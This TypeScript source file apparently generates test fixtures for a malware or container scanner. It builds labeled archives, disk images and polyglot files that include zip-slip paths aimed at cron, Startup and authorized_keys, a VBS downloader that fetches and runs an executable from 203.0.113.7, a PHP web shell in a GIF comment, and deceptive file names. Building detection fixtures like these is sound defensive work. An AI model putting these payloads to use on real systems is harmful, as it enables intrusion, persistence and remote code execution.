// Names that deceive, archives that are tricked, files that are two things at once.
import { deflateSync, gzipSync } from 'node:zlib'
import { EICAR, type Member } from '../../archives/member.ts'
import { writeCab, writeTar } from '../../archives/write-archive.ts'
import { writeFat, writeIso } from '../../archives/write-disk-image.ts'
import { writeZip } from '../../archives/write-zip.ts'
import { buildPe } from '../../pe/build-pe.ts'
import { writeLnk } from '../write-lnk.ts'
import { onePage, writePdf } from '../write-pdf.ts'
import type { Suspect } from './suspect.ts'

const suspect = (name: string, label: Suspect['label'], reasons: readonly string[], bytes: Uint8Array): Suspect => ({
  name,
  label,
  reasons,
  bytes,
})

const program = buildPe({ imports: { 'SHELL32.dll': ['ShellExecuteW'] } })
const calc = Buffer.from('Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c calc", 0, False\r\n')
const dropper = Buffer.from(
  'Set h = CreateObject("MSXML2.XMLHTTP")\r\nh.Open "GET", "http://203.0.113.7/a.exe", False\r\nh.Send\r\nSet s = CreateObject("ADODB.Stream")\r\ns.Type = 1\r\ns.Open\r\ns.Write h.responseBody\r\ns.SaveToFile "C:\\Users\\Public\\a.exe", 2\r\nCreateObject("WScript.Shell").Run "C:\\Users\\Public\\a.exe", 0, False\r\n',
)
const batch = Buffer.from('@echo off\r\nstart /min powershell -w hidden -c calc\r\n')
const text = (name: string, body = 'nothing to see'): Member => ({ name, bytes: Buffer.from(body) })
const gif = Buffer.from('GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;', 'latin1')
const page = writePdf(onePage('the invoice'))
const jar = writeZip([
  { name: 'META-INF/MANIFEST.MF', bytes: Buffer.from('Manifest-Version: 1.0\r\nMain-Class: A\r\n') },
  { name: 'A.class', bytes: Buffer.from('cafebabe0000003400', 'hex') },
])

const paths: readonly Suspect[] = [
  suspect(
    'slip.zip',
    'malicious',
    ['archive_escapes_its_folder'],
    writeZip([text('../../../../etc/cron.d/a', '* * * * * root id')]),
  ),
  suspect(
    'startup.zip',
    'malicious',
    ['archive_escapes_its_folder'],
    writeZip([
      { name: '..\\..\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.bat', bytes: batch },
    ]),
  ),
  suspect(
    'slip.tar',
    'malicious',
    ['archive_escapes_its_folder'],
    writeTar([text('a/../../../home/u/.ssh/authorized_keys')]),
  ),
  suspect(
    'link.tar',
    'malicious',
    ['archive_escapes_its_folder'],
    writeTar([{ name: 'out', bytes: Buffer.alloc(0), linkTarget: '/etc' }, text('out/cron.d-a', '* * * * * root id')]),
  ),
  suspect(
    'link.tar.gz',
    'malicious',
    ['archive_escapes_its_folder'],
    gzipSync(
      writeTar([{ name: 'a/b', bytes: Buffer.alloc(0), linkTarget: '../../../root' }, text('a/b/.bashrc', 'id')]),
    ),
  ),
  suspect(
    'slip.cab',
    'malicious',
    ['archive_escapes_its_folder'],
    writeCab({ name: '..\\..\\Windows\\System32\\a.dll', bytes: program }),
  ),
]

const tricks: readonly Suspect[] = [
  suspect(
    'two-names.zip',
    'suspicious',
    ['zip_lists_disagree', 'script_downloads_and_runs'],
    writeZip([{ name: 'shown.vbs', bytes: dropper }], { localName: 'other.txt' }),
  ),
  suspect(
    'winrar.zip',
    'malicious',
    ['winrar_runs_folder_file'],
    writeZip([text('invoice.pdf '), { name: 'invoice.pdf /invoice.pdf .cmd', bytes: batch }]),
  ),
  suspect(
    'same-name.zip',
    'suspicious',
    ['zip_names_repeat'],
    writeZip([text('invoice.txt'), { name: 'invoice.txt', bytes: program }, text('readme.txt')]),
  ),
  suspect(
    'unicode.zip',
    'suspicious',
    ['reversed_file_name'],
    writeZip([{ name: 'Invoice_\u202efdp.exe', bytes: program }]),
  ),
  suspect(
    'padded.zip',
    'suspicious',
    ['padded_file_name'],
    writeZip([{ name: `scan.pdf${'\u2003'.repeat(40)}.exe`, bytes: program }]),
  ),
  suspect(
    'lure.zip',
    'suspicious',
    ['double_extension'],
    writeZip([{ name: 'Contract.docx.js', bytes: calc }, text('readme.txt')]),
  ),
  suspect(
    'locked.zip',
    'suspicious',
    ['locked_with_known_password'],
    writeZip([{ name: 'invoice.vbs', bytes: calc }], { password: '1234' }),
  ),
  suspect('one.zip', 'suspicious', ['archive_of_one_script'], writeZip([{ name: 'Statement.vbs', bytes: dropper }])),
  suspect('one.cab', 'suspicious', ['archive_of_one_script'], writeCab({ name: 'statement.vbs', bytes: dropper })),
  suspect(
    'nested.zip',
    'suspicious',
    ['script_downloads_and_runs', 'archives_nested_for_nothing'],
    writeZip([
      { name: 'b.zip', bytes: writeZip([{ name: 'c.zip', bytes: writeZip([{ name: 'a.vbs', bytes: dropper }]) }]) },
    ]),
  ),
]

const images: readonly Suspect[] = [
  suspect(
    'Invoice.iso',
    'suspicious',
    ['disk_image_delivers_program'],
    writeIso([
      { name: 'INVOICE.LNK', bytes: writeLnk({ target: 'C:\\Windows\\System32\\cmd.exe', arguments: '/c a.dll' }) },
      { name: 'A.DLL', bytes: program },
    ]),
  ),
  suspect(
    'Invoice.img',
    'suspicious',
    ['disk_image_delivers_program'],
    writeFat([{ name: 'INVOICE.VBS', bytes: calc }]),
  ),
  suspect(
    'setup.iso',
    'suspicious',
    ['disk_image_delivers_program'],
    writeIso([{ name: 'DOCUMENT.JS', bytes: Buffer.from('new ActiveXObject("WScript.Shell").Run("cmd /c calc",0)') }]),
  ),
]

const doubles: readonly Suspect[] = [
  suspect(
    'picture.gif',
    'malicious',
    ['several_types_at_once', 'eicar_test_file'],
    Buffer.concat([gif, writeZip([{ name: 'a.com', bytes: EICAR }])]),
  ),
  suspect(
    'paper.pdf',
    'malicious',
    ['eicar_test_file'],
    Buffer.concat([page, writeZip([{ name: 'a.com', bytes: EICAR }])]),
  ),
  suspect('program.gif', 'suspicious', ['program_appended_to_picture'], Buffer.concat([gif, program])),
  suspect('installer.msi.jar', 'suspicious', ['several_types_at_once'], Buffer.concat([gif, jar])),
  suspect(
    'page.gif',
    'suspicious',
    ['picture_carries_script'],
    Buffer.concat([
      Buffer.from('GIF89a', 'latin1'),
      Buffer.from('/*', 'latin1'),
      Buffer.alloc(20),
      Buffer.from('*/=1;new ActiveXObject("WScript.Shell").Run("cmd /c calc",0);'),
    ]),
  ),
  suspect(
    'comment.gif',
    'suspicious',
    ['picture_carries_script'],
    Buffer.concat([
      gif.subarray(0, 13 + 6),
      Buffer.from('!\xfe\x1b<?php system($_GET["c"]);?>\0', 'latin1'),
      gif.subarray(19),
    ]),
  ),
  suspect(
    'behind.png',
    'suspicious',
    ['program_appended_to_picture'],
    Buffer.concat([
      Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex'),
      Buffer.from('1f15c489', 'hex'),
      Buffer.from('0000000049454e44ae426082', 'hex'),
      deflateSync(Buffer.from('x')),
      program,
    ]),
  ),
]

export const containerSuspects: readonly Suspect[] = [...paths, ...tricks, ...images, ...doubles]
